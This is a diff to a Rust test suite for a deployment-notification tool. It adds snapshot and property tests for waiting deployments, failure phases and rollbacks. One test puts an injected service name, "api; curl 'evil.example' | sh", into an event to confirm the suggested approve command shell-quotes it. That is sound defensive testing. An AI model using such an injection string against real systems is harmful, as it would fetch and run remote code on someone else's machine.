@@ -6,12 +6,13 @@ use chrono::{DateTime, TimeDelta, Utc};
 use longshore_events::image::Image;
 use longshore_events::longshore::{
     ChangeCounts, ContainerFailure, DeploymentFailed, DeploymentRolledBack, DeploymentSkipped,
-    DeploymentStarted, DeploymentSucceeded, DeploymentSummary, DeploymentSuperseded,
-    FailedResource, FileCount, LongshoreEvent, OperationKind, Problem, RefusedEntry,
-    ReleaseRefused, RunsOn, Severity, SkipReason, Source, StackApplying, StackFailed,
-    StackFileRefused, StackReady, StackSource, StackSummary, StackUnchanged, SyncCompleted,
-    SyncFailed, SyncOutcome, SyncPlanned, SyncProgressed, SyncRefused, SyncShardCompleted,
-    SyncSource, SyncSummary, SyncUnchanged, TaskFailure,
+    DeploymentStabilized, DeploymentStarted, DeploymentSucceeded, DeploymentSummary,
+    DeploymentSuperseded, DeploymentWaiting, FailedPhase, FailedResource, FileCount,
+    LongshoreEvent, OperationKind, Problem, ReconcileShard, RefusedEntry, ReleaseRefused, RunsOn,
+    Severity, SkipReason, Source, StackApplying, StackFailed, StackFileRefused, StackReady,
+    StackSource, StackSummary, StackUnchanged, SyncCompleted, SyncFailed, SyncOutcome, SyncPlanned,
+    SyncProgressed, SyncRefused, SyncShardCompleted, SyncSource, SyncSummary, SyncUnchanged,
+    TaskFailure, WaitReason,
 };
 use longshore_events::transfer::{TransferFailure, TransferProgress, TransferReport};
 use longshore_report::{
@@ -102,6 +103,32 @@ fn failed(rolling_back: bool, failures: Vec<TaskFailure>) -> LongshoreEvent {
         reason: "ECS deployment circuit breaker: tasks failed to start.".to_owned(),
         failures,
         rolling_back,
+        phase: FailedPhase::Rollout,
+    })
+}
+
+fn failed_in(phase: FailedPhase, reason: &str) -> LongshoreEvent {
+    LongshoreEvent::DeploymentFailed(DeploymentFailed {
+        deployment: deployment(Source::Push),
+        finished_at: after(95),
+        reason: reason.to_owned(),
+        failures: vec![task_failure("0f3c1", 1)],
+        rolling_back: false,
+        phase,
+    })
+}
+
+fn waiting(reason: WaitReason, until: Option<DateTime<Utc>>) -> LongshoreEvent {
+    LongshoreEvent::DeploymentWaiting(DeploymentWaiting {
+        stack: "shop".to_owned(),
+        service: "api".to_owned(),
+        deployment_id: "5f1e7c1e-30a3-4d52-9a5d-27a3a4c5d6e7".to_owned(),
+        image: image(),
+        source: Source::Push,
+        requested_at: requested_at(),
+        reason,
+        since: after(2),
+        until,
     })
 }
 
@@ -128,6 +155,7 @@ fn skipped(reason: SkipReason) -> LongshoreEvent {
         source: Source::Push,
         requested_at: requested_at(),
         reason,
+        deployment_id: None,
     })
 }
 
@@ -447,12 +475,126 @@ fn a_deployment_that_was_skipped_for_each_reason() {
         SkipReason::AlreadyDeploying,
         SkipReason::NewerRequested,
         SkipReason::FailedBefore,
+        SkipReason::ArchitectureMissing,
+        SkipReason::ApprovalExpired,
+        SkipReason::PredecessorFailed,
     ] {
         insta::assert_json_snapshot!(
             format!("a_deployment_that_was_skipped__{reason:?}"),
             message(&skipped(reason))
         );
     }
+}
+
+#[test]
+fn a_deployment_that_waits_for_each_reason() {
+    let services = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
+    for (name, reason, until) in [
+        (
+            "the_end_of_a_hold",
+            WaitReason::Held {
+                note: Some("the sale\nask Ada".to_owned()),
+            },
+            Some(after(86_400)),
+        ),
+        ("somebody_to_resume", WaitReason::Held { note: None }, None),
+        ("a_freeze_window", WaitReason::Frozen, Some(after(7_200))),
+        ("approval", WaitReason::Approval, Some(after(28_800))),
+        (
+            "other_services",
+            WaitReason::Predecessors {
+                services: services(&["migrate", "worker"]),
+            },
+            None,
+        ),
+    ] {
+        insta::assert_json_snapshot!(
+            format!("a_deployment_that_waits_for__{name}"),
+            message(&waiting(reason, until))
+        );
+    }
+}
+
+#[test]
+fn what_is_copied_from_a_message_runs_nothing_else() {
+    let LongshoreEvent::DeploymentWaiting(mut event) = waiting(WaitReason::Approval, None) else {
+        unreachable!("it is made as one");
+    };
+    event.service = "api; curl 'evil.example' | sh".to_owned();
+    let message = message(&LongshoreEvent::DeploymentWaiting(event));
+    let command = texts(&message)
+        .into_iter()
+        .find(|text| text.contains("longshore approve"))
+        .unwrap();
+    assert!(
+        command.contains(
+            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest sha256:"
+        ),
+        "{command}"
+    );
+}
+
+#[test]
+fn of_the_services_that_come_first_the_first_are_named_and_the_rest_is_counted() {
+    let services = (0..30).map(|number| format!("part-{number}")).collect();
+    let text = message(&waiting(WaitReason::Predecessors { services }, None)).text;
+    assert!(
+        text.contains("`part-9`, … and 20 more services to run"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_rollback_by_hand_is_called_one() {
+    let source = || Source::Rollback {
+        to: 41,
+        note: Some("the checkout is broken".to_owned()),
+    };
+    insta::assert_json_snapshot!(message(&started(source())));
+    let succeeded = message(&LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
+        deployment: deployment(source()),
+        finished_at: after(72),
+    }));
+    assert_eq!(
+        succeeded.text,
+        "✅ Rollback succeeded: shop/api v3, in 1 min 12 s"
+    );
+}
+
+#[test]
+fn a_deployment_that_failed_says_what_the_service_runs() {
+    for (phase, reason) in [
+        (FailedPhase::Before, "task migrate exited with 1"),
+        (FailedPhase::After, "task smoke-test exited with 1"),
+    ] {
+        insta::assert_json_snapshot!(
+            format!("a_deployment_that_failed__{phase:?}"),
+            message(&failed_in(phase, reason))
+        );
+    }
+}
+
+#[test]
+fn what_only_longshore_must_know_is_told_to_nobody() {
+    let deployment = deployment(Source::Push);
+    for event in [
+        LongshoreEvent::DeploymentStabilized(DeploymentStabilized { deployment }),
+        LongshoreEvent::ReconcileShard(ReconcileShard {
+            shard: 0,
+            shards: 2,
+        }),
+    ] {
+        assert_eq!(longshore_report::message(&event), None);
+    }
+}
+
+#[test]
+fn an_image_that_the_reconcile_found_says_so() {
+    let text = texts(&message(&started(Source::Reconcile))).join("\n");
+    assert!(
+        text.contains("*Asked for by:* the reconcile, which found it in `shop/api`"),
+        "{text}"
+    );
 }
 
 #[test]
@@ -748,6 +890,16 @@ fn each_kind_of_event_has_a_symbol_of_its_own() {
         stack_ready(OperationKind::Apply, "CREATE_COMPLETE", payload()),
         stack_ready(OperationKind::Destroy, "DELETE_COMPLETE", payload()),
         started(Source::Push),
+        started(Source::Rollback { to: 41, note: None }),
+        waiting(WaitReason::Held { note: None }, None),
+        waiting(WaitReason::Frozen, None),
+        waiting(WaitReason::Approval, None),
+        waiting(
+            WaitReason::Predecessors {
+                services: Vec::new(),
+            },
+            None,
+        ),
         skipped(SkipReason::AlreadyRunning),
         failed(true, Vec::new()),
         rolled_back(),
@@ -758,7 +910,7 @@ fn each_kind_of_event_has_a_symbol_of_its_own() {
     .iter()
     .filter_map(|event| message(event).text.chars().next())
     .collect();
-    assert_eq!(symbols.len(), 11);
+    assert_eq!(symbols.len(), 16);
 }
 
 #[test]
@@ -853,6 +1005,8 @@ fn any_source() -> BoxedStrategy<Source> {
             }
         }),
         hostile_option().prop_map(|note| Source::Manual { note }),
+        Just(Source::Reconcile),
+        (any::<u32>(), hostile_option()).prop_map(|(to, note)| Source::Rollback { to, note }),
         (hostile(), any::<bool>()).prop_map(|(operation_id, restored)| Source::Stack {
             operation_id,
             restored,
@@ -1061,6 +1215,54 @@ fn any_skip_reason() -> BoxedStrategy<SkipReason> {
         Just(SkipReason::AlreadyDeploying),
         Just(SkipReason::NewerRequested),
         Just(SkipReason::FailedBefore),
+        Just(SkipReason::ArchitectureMissing),
+        Just(SkipReason::ApprovalExpired),
+        Just(SkipReason::PredecessorFailed),
+    ]
+    .boxed()
+}
+
+fn any_wait_reason() -> BoxedStrategy<WaitReason> {
+    prop_oneof![
+        hostile_option().prop_map(|note| WaitReason::Held { note }),
+        Just(WaitReason::Frozen),
+        Just(WaitReason::Approval),
+        prop::collection::vec(hostile(), 0..14)
+            .prop_map(|services| WaitReason::Predecessors { services }),
+    ]
+    .boxed()
+}
+
+fn any_waiting() -> BoxedStrategy<LongshoreEvent> {
+    (
+        hostile(),
+        hostile(),
+        any_deployment(),
+        any_wait_reason(),
+        any_time(),
+        prop::option::of(any_time()),
+    )
+        .prop_map(|(stack, service, deployment, reason, since, until)| {
+            LongshoreEvent::DeploymentWaiting(DeploymentWaiting {
+                stack,
+                service,
+                deployment_id: deployment.deployment_id,
+                image: deployment.image,
+                source: deployment.source,
+                requested_at: deployment.requested_at,
+                reason,
+                since,
+                until,
+            })
+        })
+        .boxed()
+}
+
+fn any_phase() -> BoxedStrategy<FailedPhase> {
+    prop_oneof![
+        Just(FailedPhase::Before),
+        Just(FailedPhase::Rollout),
+        Just(FailedPhase::After),
     ]
     .boxed()
 }
@@ -1295,16 +1497,18 @@ fn any_deployment_event() -> BoxedStrategy<LongshoreEvent> {
             any_time(),
             hostile(),
             any_failures(),
-            any::<bool>()
+            any::<bool>(),
+            any_phase()
         )
             .prop_map(
-                |(deployment, finished_at, reason, failures, rolling_back)| {
+                |(deployment, finished_at, reason, failures, rolling_back, phase)| {
                     LongshoreEvent::DeploymentFailed(DeploymentFailed {
                         deployment,
                         finished_at,
                         reason,
                         failures,
                         rolling_back,
+                        phase,
                     })
                 }
             ),
@@ -1360,8 +1564,10 @@ fn any_deployment_event() -> BoxedStrategy<LongshoreEvent> {
                     source,
                     requested_at,
                     reason,
+                    deployment_id: None,
                 })
             }),
+        any_waiting(),
         (hostile(), hostile(), hostile_option(), hostile()).prop_map(
             |(bucket, key, version_id, reason)| {
                 LongshoreEvent::ReleaseRefused(ReleaseRefused {
